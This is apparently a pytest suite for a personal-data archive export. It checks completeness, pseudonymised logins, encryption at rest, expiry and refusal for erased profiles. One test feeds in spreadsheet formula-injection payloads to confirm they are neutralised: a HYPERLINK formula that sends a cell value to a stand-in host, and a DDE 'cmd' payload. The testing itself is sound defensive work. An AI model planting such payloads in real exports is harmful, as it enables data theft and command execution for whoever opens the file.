"""The archive for the person concerned: everything is in it, it reads back, and it does not stay."""

from __future__ import annotations

import csv
import io
import json
import os
import threading
import time
import zipfile
from dataclasses import replace
from datetime import timedelta
from pathlib import Path

import av
import numpy as np
import pytest

from semg.domain import us_from_utc
from semg.errors import ConflictError, NotFoundError
from semg.maintenance.video_files import VideoKeeper
from semg.priors.building import store_version
from semg.privacy import archive_downloads, data_archive
from semg.privacy.archive_downloads import Export
from semg.privacy.consent import TEST_PERSON
from semg.privacy.data_archive import write_archive
from semg.settings import Settings
from semg.signals.conditioning import ConditioningSpec
from semg.signals.training.population_prior import PersonStatistics, PopulationPrior
from semg.signals.windows import WindowSpec
from semg.store import access, accounts, audit, consents, decisions, jobs, profiles, repetitions
from semg.store.pool import Pool, execute
from semg.video.files import files_of
from testing import fake_camera
from testing.kits.store_data import T0, Filled, decision, fill, insert_block
from testing.kits.video_kit import VAULT, write_part

pytestmark = pytest.mark.servers
EPOCH = {"what": "final fit", "epoch": 1, "epochs": 18, "loss": 0.5, "held_out_error": None}


@pytest.fixture
def filled(pool: Pool, settings: Settings) -> Filled:
    """A profile with everything, a video and samples outside of its sessions too."""
    with pool.transaction() as tx:
        made = fill(tx, "Ada")
        insert_block(tx, made.user_id, T0 - timedelta(seconds=0.1), 40)  # 20 samples before the session
        insert_block(tx, made.user_id, T0 + timedelta(minutes=25), 30)
        execute(tx, "DELETE FROM videos")
        execute(tx, "DELETE FROM erased_videos")
        execute(tx, "INSERT INTO videos (session_id, seen_at) VALUES (%s, NULL)", (made.session_id,))
        audit.record(tx, audit.Actor(service="app"), "samples.seen", made.user_id, made.session_id)
        owner = accounts.insert_account(tx, "maria.curie", "")
        access.set_owner(tx, made.user_id, owner)
        consents.insert_consent(tx, made.user_id, replace(TEST_PERSON, recorded_by="maria.curie"))
        (first,) = repetitions.list_repetitions(tx, made.session_id)
        for excluded, login in ((True, "maria.curie"), (False, "somebody who left")):
            repetitions.update_repetition(tx, first.repetition_id, excluded=excluded, changed_by=login)
        jobs.record_used(tx, made.job_id)
        jobs.claim_job(tx, made.job_id, "runner")
        jobs.update_epochs(tx, made.job_id, [EPOCH])
        jobs.complete_job(tx, made.job_id)
    files = files_of(settings.videos, made.session_id, VAULT)
    files.parts.mkdir(parents=True)
    write_part(files.create_part(1), range(40), us_from_utc(T0))
    VideoKeeper(pool, settings.videos, VAULT).step()
    return made


def table(archive: zipfile.ZipFile, name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.TextIOWrapper(archive.open(name), "utf-8")))


def test_archive_holds_everything_and_reads_back(
    pool: Pool, settings: Settings, filled: Filled, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("semg.store.archive._AT_ONCE", 3)
    with pool.transaction() as tx:
        decisions.insert_decisions(tx, [decision(filled.user_id, T0 + timedelta(seconds=s // 2)) for s in range(10)])
    shares: list[float] = []
    with (tmp_path / "archive.zip").open("wb") as out:
        write_archive(pool, settings, filled.user_id, out, shares.append)
    assert shares == sorted(shares)
    assert shares[-1] == 1.0
    with zipfile.ZipFile(tmp_path / "archive.zip") as archive:
        assert archive.testzip() is None
        names = set(archive.namelist())
        session, imported = f"sessions/{filled.session_id}", f"sessions/{filled.imported_id}"
        assert names >= {
            "README.txt", "profile.json", "consents.json", "consent_texts/test-data.txt", "gestures.json", "jobs.json",
            "decisions.csv", "audit.csv", "models/1.json", "models/1.safetensors", f"{session}/session.json",
            f"{session}/labels.csv", f"{session}/video.mp4", f"{session}/video_times.csv", f"{imported}/samples.csv",
        }  # fmt: skip
        about = json.loads(archive.read("profile.json"))
        assert about["name"] == "Ada"
        assert json.loads(archive.read("consents.json"))[0]["scopes"] == [
            "recording",
            "video",
            "shared_models",
            "shared_data",
        ]
        assert json.loads(archive.read("models/1.json"))["report"] == {"accuracy": 0.9}
        samples = table(archive, f"{session}/samples.csv")
        assert len(samples) == 20 + 100
        assert [(row["a0"], row["a1"]) for row in samples[:2]] == [("20", "-20"), ("21", "-21")]
        assert int(samples[0]["server_us"]) == us_from_utc(T0)
        assert len(table(archive, f"{imported}/samples.csv")) == 60
        assert len(table(archive, "outside/2026-03-01.csv")) == 20 + 30
        assert [row["gesture"] for row in table(archive, f"{session}/labels.csv")] == ["fist"]
        assert len(table(archive, "decisions.csv")) == 12
        assert table(archive, "audit.csv")[0]["action"] == "samples.seen"
        video = io.BytesIO(archive.read(f"{session}/video.mp4"))
        with av.open(video) as container:
            numbers = [fake_camera.read(frame.to_ndarray(format="gray")) for frame in container.decode(video=0)]
        assert numbers == list(range(40))
        assert len(table(archive, f"{session}/video_times.csv")) == 40


def content(pool: Pool, settings: Settings, user_id: int, *, with_name: bool = False) -> dict[str, bytes]:
    """Write an archive, and give its files."""
    out = io.BytesIO()
    write_archive(pool, settings, user_id, out, with_name=with_name)
    with zipfile.ZipFile(out) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def test_name_behind_a_code_is_in_it_only_when_asked_for(pool: Pool, settings: Settings, filled: Filled) -> None:
    without, named = (content(pool, settings, filled.user_id, with_name=asked) for asked in (False, True))
    assert not [name for name, text in without.items() if b"Lovelace" in text]
    assert [name for name, text in named.items() if b"Lovelace" in text] == ["profile.json"]
    assert json.loads(named["profile.json"])["real_name"] == "Ada Lovelace"


def test_accounts_stand_as_numbers(pool: Pool, settings: Settings, filled: Filled) -> None:
    files = content(pool, settings, filled.user_id)
    logins = (b"maria.curie", b"somebody who left", b"helper of Ada", b"a tool in testing")
    assert [(name, login) for name, text in files.items() for login in logins if login in text] == []
    with pool.transaction() as tx:
        known = {one.login: f"account {one.account_id}" for one in accounts.list_accounts(tx)}
    assert json.loads(files["access.json"])["owner"] == known["maria.curie"]
    assert [one["account"] for one in json.loads(files["access.json"])["shared_with"]] == [known["helper of Ada"]]
    entered = [one["recorded_by"] for one in json.loads(files["consents.json"])]
    assert entered == [known["maria.curie"], "account gone"]
    assert json.loads(files["profile.json"])["consent"]["recorded_by"] == known["maria.curie"]
    changes = list(csv.DictReader(io.StringIO(files[f"sessions/{filled.session_id}/changes.csv"].decode())))
    assert [one["changed_by"] for one in changes] == ["account gone", known["maria.curie"]]


def test_no_cell_of_its_tables_is_a_formula(pool: Pool, settings: Settings, filled: Filled) -> None:
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1)'
    with pool.transaction() as tx:
        (label,) = repetitions.list_repetitions(tx, filled.session_id)
        repetitions.update_repetition(tx, label.repetition_id, excluded=True, reason="@SUM(A1:A9)", changed_by="x")
        execute(tx, "UPDATE gestures SET name = %s WHERE name = 'fist'", (formula,))
        execute(tx, "UPDATE api_responses SET label = %s", ("+1+cmd|' /C calc'!A0",))
    files = content(pool, settings, filled.user_id)
    tables = {name: list(csv.reader(io.StringIO(text.decode()))) for name, text in files.items() if ".csv" in name}
    cells = {cell for rows in tables.values() for row in rows for cell in row}
    assert [one for one in cells if one.startswith(("=", "+", "@", "\t", "\r"))] == []
    assert all(float(one) <= 0 for one in cells if one.startswith("-"))
    assert {"'" + formula, "'@SUM(A1:A9)", "'+1+cmd|' /C calc'!A0"} <= cells
    samples = tables[f"sessions/{filled.session_id}/samples.csv"]
    assert samples[1][2:] == ["20", "-20"], "numbers stay numbers"


def test_events_are_in_it_with_their_numbers(pool: Pool, settings: Settings, filled: Filled) -> None:
    files = content(pool, settings, filled.user_id)
    (event,) = csv.DictReader(io.StringIO(files["events.csv"].decode()))
    assert (event["sequence"], event["kind"], event["gesture"], event["strength"]) == ("1", "press", "fist", "0.5")
    assert json.loads(files["profile.json"])["event_times"]["times"]["dwell_ms"] == 250


def test_quality_senders_and_what_was_used_are_in_it(pool: Pool, settings: Settings, filled: Filled) -> None:
    files = content(pool, settings, filled.user_id)
    quality = json.loads(files[f"sessions/{filled.session_id}/quality.json"])
    assert (quality["level"], quality["reason"]) == ("good", "quiet")
    assert f"sessions/{filled.imported_id}/quality.json" not in files
    senders = json.loads(files["senders.json"])
    assert [one["name"] for one in senders["boards"]] == ["board of Ada"]
    assert [one["number"] for one in senders["text_senders"]] == [1_000_000 + filled.user_id]
    (job,) = json.loads(files["jobs.json"])
    labels = list(csv.DictReader(io.StringIO(files[f"sessions/{filled.session_id}/labels.csv"].decode())))
    used = {str(one["repetition_id"]) for one in job["used"]}
    assert {one["label"] for one in labels} <= used
    assert {one["gesture"] for one in job["used"]} == {"fist"}
    assert job["epoch_points"] == [EPOCH]


def test_part_in_base_statistics_is_in_it(pool: Pool, settings: Settings, filled: Filled) -> None:
    names = (str(filled.user_id), "another")
    people = [
        PersonStatistics(name, (name,), ("fist", "rest"), 4, *(np.full((2, 2), 7.0 + i) for _ in range(5)))
        for i, name in enumerate(names)
    ]
    base = PopulationPrior(
        "2 people", WindowSpec(200.0, 200, 50, 0), ConditioningSpec("raw", 200.0, 50.0), 2, 0.0, tuple(people)
    )
    folder = settings.data_dir / "bases"
    store_version(folder, [base])
    (folder / "base-9-damaged.safetensors").write_bytes(b"x")
    files = content(pool, settings, filled.user_id)
    found = {name: json.loads(text) for name, text in files.items() if name.startswith("bases/")}
    (mine,) = [one for one in found.values() if "means" in one]
    assert (mine["name"], mine["means"]) == (names[0], [[7.0, 7.0], [7.0, 7.0]])
    assert "problem" in found["bases/base-9-damaged.json"]
    assert not any(b"another" in text for text in files.values())


def test_readme_names_every_kind_of_file(pool: Pool, settings: Settings, filled: Filled, tmp_path: Path) -> None:
    with (tmp_path / "archive.zip").open("wb") as out:
        write_archive(pool, settings, filled.user_id, out)
    with zipfile.ZipFile(tmp_path / "archive.zip") as archive:
        kinds = {name.rpartition("/")[2] for name in archive.namelist() if name.startswith("sessions/")}
        tops = {name.partition("/")[0] for name in archive.namelist()} - {"README.txt"}
    assert [kind for kind in kinds | tops if kind not in data_archive.README] == []


def test_archive_is_made_in_the_background_encrypted_and_goes(pool: Pool, settings: Settings, filled: Filled) -> None:
    export = Export(pool, settings, filled.user_id)
    export.join(30)
    assert (export.share, export.problem) == (1.0, "")
    (path,) = archive_downloads.folder_of(settings).iterdir()
    assert not any(word in path.read_bytes() for word in (b"Ada", b"profile.json", b"PK\x03\x04"))
    with archive_downloads.open_export(settings, export.name) as file:
        assert zipfile.ZipFile(file).testzip() is None
    assert archive_downloads.open_export(settings, "../.env") is None
    archive_downloads.remove_exports(settings, pool)
    assert path.exists()
    old = time.time() - archive_downloads.KEPT_S - 1
    os.utime(path, (old, old))
    archive_downloads.remove_exports(settings, pool)
    assert not path.exists()


def test_archive_of_an_erased_person_is_not_given_out(pool: Pool, settings: Settings, filled: Filled) -> None:
    ready = Export(pool, settings, filled.user_id)
    ready.join(30)

    def erase(share: float) -> None:
        with pool.transaction() as tx:
            if profiles.list_profiles(tx):
                profiles.delete_profile(tx, filled.user_id)

    with pytest.raises(NotFoundError):
        write_archive(pool, settings, filled.user_id, io.BytesIO(), erase)
    archive_downloads.remove_exports(settings, pool)
    assert list(archive_downloads.folder_of(settings).iterdir()) == []
    missing = Export(pool, settings, filled.user_id)
    missing.join(30)
    assert "there is no profile" in missing.problem


def test_account_makes_one_archive_at_a_time_and_one_that_takes_too_long_is_given_up(
    pool: Pool, settings: Settings, filled: Filled, monkeypatch: pytest.MonkeyPatch
) -> None:
    desk = archive_downloads.ArchiveDownloads()
    go_on = threading.Event()

    def wait(*given: object, longest_s: float, **more: object) -> None:
        assert go_on.wait(30)
        write_archive(*given, longest_s=0.0, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(archive_downloads, "write_archive", wait)
    making = desk.begin(pool, settings, filled.user_id, account_id=1)
    with pytest.raises(ConflictError, match="Your account is creating an archive already"):
        desk.begin(pool, settings, filled.user_id + 1, account_id=1)
    other = desk.begin(pool, settings, filled.user_id + 2, account_id=2)
    go_on.set()
    for one in (making, other):
        one.join(30)
    assert "export the sessions one by one" in making.problem
    assert list(archive_downloads.folder_of(settings).iterdir()) == [], "nothing unfinished stays"
    desk.begin(pool, settings, filled.user_id, account_id=1).join(30)
